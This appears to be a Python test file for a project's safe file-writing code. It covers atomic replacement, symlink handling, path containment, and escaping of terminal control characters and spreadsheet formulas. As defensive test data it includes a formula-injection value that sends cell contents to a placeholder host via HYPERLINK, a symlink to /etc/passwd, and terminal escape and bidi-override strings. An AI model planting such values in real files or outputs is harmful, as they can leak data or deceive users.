"""Files are replaced as a whole or not at all, and hold nothing that harms a terminal."""

import csv
import errno
import io
import json
import os
import stat

import pytest
from hypothesis import given
from hypothesis import strategies as st

import utils.files
from utils.errors import UserError
from utils.escaping import escape_control, escape_json, one_line
from utils.files import (
    atomic_write,
    check_writable,
    is_inside,
    open_regular,
    output_kind,
    write_csv,
    write_json,
    write_text,
)
from utils.log import log, progress_bar

ESCAPES = "\x1b[31mred\x1b[0m \x9b2J \u202eevil \udcff \x7f"
OLD = 2 * utils.files.STALE_SECONDS


@pytest.fixture
def target(tmp_path):
    path = tmp_path / "state.npz"
    path.write_bytes(b"old")
    return path


def names(folder):
    return sorted(path.name for path in folder.iterdir())


def test_a_failing_block_keeps_the_old_file(target):
    with pytest.raises(RuntimeError), atomic_write(target) as temporary:
        temporary.write_bytes(b"half")
        raise RuntimeError
    assert target.read_bytes() == b"old" and names(target.parent) == ["state.npz"]


@pytest.mark.parametrize("function", ["fsync", "replace"])
def test_a_full_disk_is_one_sentence_and_keeps_the_old_file(target, monkeypatch, function):
    def full(*arguments):
        raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))

    monkeypatch.setattr(os, function, full)
    with pytest.raises(UserError) as caught, atomic_write(target) as temporary:
        temporary.write_bytes(b"new")
    monkeypatch.undo()
    assert str(caught.value) == (f"Can't write {target}: No space left on device; the previous file, if any, is kept.")
    assert target.read_bytes() == b"old" and names(target.parent) == ["state.npz"]


def leave(folder, name, age=OLD):
    path = folder / name
    path.write_bytes(b"left")
    os.utime(path, (path.stat().st_atime, path.stat().st_mtime - age))
    return path


def test_what_killed_writers_left_is_removed(target):
    leave(target.parent, ".state-abcd12_9.part.npz")
    write_text(target, "new")
    assert names(target.parent) == ["state.npz"] and target.read_bytes() == b"new"


@pytest.mark.parametrize(
    "name", [".state-abcd1234.npz", ".other-abcd1234.part.npz", "state-abcd1234.part.npz", ".state-a.part.npz"]
)
def test_files_of_others_are_not(target, name):
    leave(target.parent, name)
    write_text(target, "new")
    assert names(target.parent) == sorted([name, "state.npz"])


def test_a_link_is_replaced_not_followed(tmp_path):
    """A hostile folder could hold one that leads to a file of its reader."""
    (tmp_path / "precious").write_bytes(b"mine")
    (tmp_path / "history.csv").symlink_to(tmp_path / "precious")
    write_text(tmp_path / "history.csv", "table")
    assert (tmp_path / "precious").read_bytes() == b"mine"
    assert not (tmp_path / "history.csv").is_symlink() and (tmp_path / "history.csv").read_text() == "table"


def test_places_that_can_not_be_written(tmp_path):
    (tmp_path / "file").touch()
    (tmp_path / "folder.csv").mkdir()
    for path in (tmp_path / "file" / "out.csv", tmp_path / "folder.csv"):
        with pytest.raises(UserError, match=f"Can't write {path}"):
            check_writable(path)
        with pytest.raises(UserError, match=f"Can't write {path}"):
            write_text(path, "text")
    check_writable(tmp_path / "new" / "out.csv")
    assert names(tmp_path / "new") == [] and names(tmp_path) == ["file", "folder.csv", "new"]


@pytest.mark.parametrize(
    ("name", "kind"),
    [("a.JSON", ".json"), ("new/.json", ""), (".xml", ""), ("a.b.csv", ".csv"), ("a", ""), ("a.json/", "")],
)
def test_kinds_of_outputs(name, kind):
    assert output_kind(name) == kind


def test_inside_and_outside(tmp_path):
    (tmp_path / "a" / "b").mkdir(parents=True)
    (tmp_path / "a" / "in.png").symlink_to(tmp_path / "a" / "b")
    (tmp_path / "a" / "out.png").symlink_to("/etc/passwd")
    (tmp_path / "whole").symlink_to(tmp_path / "a")
    for folder in ("a", "whole"):
        assert is_inside(tmp_path / folder / "in.png", tmp_path / folder)
        assert is_inside(tmp_path / folder / "none.png", tmp_path / folder)
        assert not is_inside(tmp_path / folder / "out.png", tmp_path / folder)
        assert not is_inside(tmp_path / folder / ".." / "ab", tmp_path / folder)


def test_tables_hold_nothing_that_harms_a_terminal(tmp_path):
    write_csv(tmp_path / "a.csv", ["text", "value"], [{"text": ESCAPES + "\t\n", "value": 0.5}, {"text": "ä,"}])
    with open(tmp_path / "a.csv", encoding="utf-8", newline="") as file:
        rows = list(csv.DictReader(file))
    expected = "\\x1b[31mred\\x1b[0m \\x9b2J \\u202eevil \\udcff \\x7f\\t\\n"
    assert rows == [{"text": expected, "value": "0.5"}, {"text": "ä,", "value": ""}]


@pytest.mark.parametrize(
    "text, cell",
    [
        ("=1+1", "'=1+1"),
        ('=HYPERLINK("http://x/?"&A1)', '\'=HYPERLINK("http://x/?"&A1)'),
        ("+1-2", "'+1-2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\\t=1"),
        ("\uff1d1+1", "'\uff1d1+1"),
        ("=", "="),
        ("-5", "-5"),
        ("a=1", "a=1"),
        ("", ""),
    ],
)
def test_no_cell_is_a_formula(tmp_path, text, cell):
    """A spreadsheet would compute it, and can start programs; words that are no formulas stay."""
    write_csv(tmp_path / "t.csv", ["a", text or "b"], [{"a": text, text or "b": -1.5}])
    with open(tmp_path / "t.csv", encoding="utf-8", newline="") as file:
        assert list(csv.reader(file)) == [["a", cell or "b"], [cell, "-1.5"]]


@pytest.mark.parametrize("kind", ["folder", "pipe", "device"])
def test_only_regular_files_are_opened(tmp_path, kind):
    path = tmp_path / "file"
    if kind == "folder":
        path.mkdir()
    elif kind == "pipe":
        os.mkfifo(path)
    else:
        path.symlink_to("/dev/zero")
    handles = len(os.listdir("/proc/self/fd"))
    with pytest.raises(OSError, match="not a regular file"):
        open_regular(path)
    assert len(os.listdir("/proc/self/fd")) == handles


def test_json_holds_the_same_values_and_no_control_characters(tmp_path):
    write_json(tmp_path / "a.json", {"text": ESCAPES, "word": "Größe"})
    content = (tmp_path / "a.json").read_bytes()
    assert json.loads(content) == {"text": ESCAPES, "word": "Größe"}
    assert "Größe".encode() in content
    assert all(char.isprintable() or char == "\n" for char in content.decode())


@given(st.text())
def test_json_and_tables_are_harmless_for_any_text(text):
    shown = escape_json(json.dumps(text, ensure_ascii=False))
    assert json.loads(shown) == text
    for made in (shown, escape_control(text), one_line(text)):
        assert not set(made) & {chr(code) for code in (*range(32), *range(0x7F, 0xA0), 0x202E, 0x2028)}
        made.encode()
    assert one_line(text).isprintable() and one_line(one_line(text)) == one_line(text)


def test_errors_and_log_lines_are_one_printable_line(capsys):
    error = UserError(f"Image a\n{ESCAPES}.png: missing.")
    assert str(error).isprintable() and "\\x1b[31mred" in str(error) and "a\\n" in str(error)
    log(f"Using the model in {ESCAPES}\n.")
    (line,) = capsys.readouterr().err.splitlines()
    assert line.isprintable() and "\\x1b[31mred" in line


def test_a_log_that_takes_no_more_stops_no_work(monkeypatch):
    class Full(io.StringIO):
        def write(self, text):
            raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))

    monkeypatch.setattr("sys.stderr", Full())
    log("A line that can't be written.")
    assert list(progress_bar(range(3))) == [0, 1, 2]


@pytest.mark.parametrize("name", ["1. " + "\u0434" * 80 + ".xml", "J. " * 20 + "Smith" * 30 + ".weights.h5"])
def test_files_may_have_long_names_with_many_dots(tmp_path, name):
    with atomic_write(tmp_path / name) as temporary:
        assert temporary.name.endswith(".".join(["", *name.split(".")[-1:]]))
        temporary.write_bytes(b"whole")
    assert names(tmp_path) == [name]


def test_a_file_system_that_can_not_sync_folders(target, monkeypatch):
    real = os.fsync

    def fsync(handle):
        if stat.S_ISDIR(os.fstat(handle).st_mode):
            raise OSError(errno.EINVAL, os.strerror(errno.EINVAL))
        real(handle)

    monkeypatch.setattr("os.fsync", fsync)
    handles = os.listdir("/proc/self/fd") if os.path.exists("/proc/self/fd") else []
    write_text(target, "new")
    assert target.read_text() == "new"
    assert len(os.listdir("/proc/self/fd") if handles else []) == len(handles)
